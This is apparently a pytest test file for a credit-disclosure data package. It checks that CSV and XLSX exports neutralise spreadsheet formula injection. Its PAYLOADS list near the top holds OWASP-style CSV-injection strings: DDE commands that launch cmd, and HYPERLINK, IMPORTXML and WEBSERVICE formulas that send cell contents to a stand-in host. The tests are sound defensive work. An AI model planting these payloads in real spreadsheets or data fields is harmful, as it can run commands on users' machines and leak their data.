"""Exports are inert in a spreadsheet: the OWASP CSV-injection payloads never become formulas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from credit_disclosure.cli import main
from credit_disclosure.io import (
    FORMULA_TRIGGERS,
    Report,
    check_rows,
    inert_cell,
    inert_csv_writer,
    write_csv,
    write_xlsx,
)
from credit_disclosure.quality import MetricRow, MetricsTable
from credit_disclosure.standard import RecordKind

#: The CSV-injection payloads of the OWASP page and the usual payload lists, and their kin.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to see")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "\n-3+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "  =1+1",
    "=1+1",
    "+1+1",
    "-1+1",
    "@A1",
    "=",
    "-",
]

#: Genuine numbers: a spreadsheet reads them as numbers, so they are written as they are.
NUMBERS = ["-5", "+5", "-0.20", "+86", "1E3", "-1.5e-3", ".5", "0", " -7"]

_NUMBER = re.compile(r"\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _live(cell: str) -> bool:
    """Whether a spreadsheet would evaluate this CSV cell (the property under test)."""
    stripped = cell.lstrip(" ")
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS and not _NUMBER.fullmatch(cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_an_apostrophe(payload: str) -> None:
    """Each payload is written with a leading apostrophe: shown as text, the value after it intact."""
    cell = inert_cell(payload)
    assert cell == "'" + payload
    assert not _live(cell)


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_untouched(number: str) -> None:
    """A genuine number, negative or signed, is left as it is."""
    assert inert_cell(number) == number


@given(st.text(max_size=30))
def test_no_cell_is_live(text: str) -> None:
    """Whatever the text, the written cell is not live, and the text is recoverable from it."""
    cell = inert_cell(text)
    assert not _live(cell)
    assert cell in (text, "'" + text)


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_write_csv_neutralises_every_payload() -> None:
    """``write_csv``: every payload in a text field comes out inert; the amount stays a number."""
    rows = [{"CF_WSH": p, "CF_NR_FK": "-0.20", "BZ": p} for p in PAYLOADS]
    out = io.StringIO(newline="")
    write_csv(rows, out, RecordKind.PENALTY)
    table = _csv_cells(out.getvalue())
    header = table[0]
    wsh, fk = header.index("CF_WSH"), header.index("CF_NR_FK")
    for payload, row in zip(PAYLOADS, table[1:]):
        assert row[wsh] == "'" + payload
        assert row[fk] == "-0.20"
        assert not any(_live(cell) for cell in row)


@pytest.mark.parametrize("cell", ["a;=1+1", "a\t=1+1"])
def test_other_separator_quotes_the_row(cell: str) -> None:
    """A cell holding ``;`` or a tab is quoted, so a program splitting on it keeps it one cell."""
    out = io.StringIO()
    inert_csv_writer(out, lineterminator="\n").writerow([cell, "b"])
    assert out.getvalue() == f'"{cell}","b"\n'


def test_check_report_csv_is_inert() -> None:
    """A check report's CSV (messages may echo a header text) has no live cell."""
    report = check_rows([dict.fromkeys(PAYLOADS, "x")], RecordKind.PENALTY)
    out = io.StringIO()
    report.to_csv(out)
    assert report.issue_count > 0
    assert not any(_live(cell) for row in _csv_cells(out.getvalue()) for cell in row)


def test_report_csv_keeps_row_numbers() -> None:
    """Row numbers and empty cells are written as before (numbers untouched, ``None`` empty)."""
    report = Report(kind=RecordKind.PENALTY)
    out = io.StringIO()
    report.to_csv(out)
    assert out.getvalue().splitlines()[0].startswith("row,severity,code")


def test_quality_csv_is_inert() -> None:
    """A quality table grouped by a department's own agency name writes it inert."""
    payload = PAYLOADS[2]
    table = MetricsTable(
        by=("agency",),
        rows=(MetricRow(group=(payload,), records=1, complete=1),),
        total=MetricRow(group=(None,), records=1, complete=1),
    )
    out = io.StringIO()
    table.to_csv(out)
    cells = [cell for row in _csv_cells(out.getvalue()) for cell in row]
    assert "'" + payload in cells
    assert not any(_live(cell) for cell in cells)


def test_xlsx_cells_are_text(tmp_path: Path) -> None:
    """``write_xlsx`` stores every payload as a text cell, never a formula, and reads back exact."""
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "out.xlsx"
    rows = [{"CF_WSH": p.replace("\0", ""), "BZ": p.replace("\0", "")} for p in PAYLOADS]
    write_xlsx(rows, path, RecordKind.PENALTY)
    wb = openpyxl.load_workbook(path)  # not data_only: a formula would show as type "f"
    ws = wb.active
    header = [c.value for c in ws[1]]
    col = header.index("行政处罚决定书文号") + 1
    for payload, cells in zip(rows, ws.iter_rows(min_row=2)):
        assert all(c.data_type != "f" for c in cells)
        assert cells[col - 1].value == payload["CF_WSH"].replace("\r", "\n")  # XML reads CR as LF
    wb.close()


def test_cli_quality_csv_output_is_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``quality --format csv`` on a file whose agency names are payloads writes them inert."""
    path = tmp_path / "in.csv"
    rows = [{"CF_WSH": f"京罚〔2024〕{i}号", "CF_CFJG": p} for i, p in enumerate(PAYLOADS[:6])]
    write_csv(rows, path, RecordKind.PENALTY)
    assert main(["quality", str(path), "--format", "csv", "--as-of", "2026-01-01"]) == 0
    cells = [cell for row in _csv_cells(capsys.readouterr().out) for cell in row]
    assert not any(_live(cell) for cell in cells)
